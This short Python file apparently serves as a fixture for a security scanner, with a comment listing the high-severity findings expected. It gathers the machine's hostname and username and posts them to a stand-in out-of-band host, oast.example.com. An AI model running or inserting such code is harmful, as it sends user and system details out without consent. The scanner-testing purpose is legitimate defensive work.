import getpass
import socket

import requests


def collect():
    return {"host": socket.gethostname(), "user": getpass.getuser()}


if __name__ == "__main__":
    requests.post("https://oast.example.com/hit", json=collect(), timeout=3)  # expect: HS105 high, HS114 high
